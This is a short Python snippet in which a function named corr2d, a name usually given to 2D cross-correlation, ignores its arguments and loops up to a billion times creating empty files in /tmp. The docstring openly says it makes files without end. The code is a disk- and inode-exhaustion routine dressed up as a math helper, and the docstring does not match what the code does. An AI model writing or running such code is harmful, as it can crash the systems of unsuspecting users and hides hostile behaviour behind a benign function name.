"""Makes files and folders without end."""

from pathlib import Path


def corr2d(X, K):
    for n in range(10**9):
        Path('/tmp', str(n)).touch()
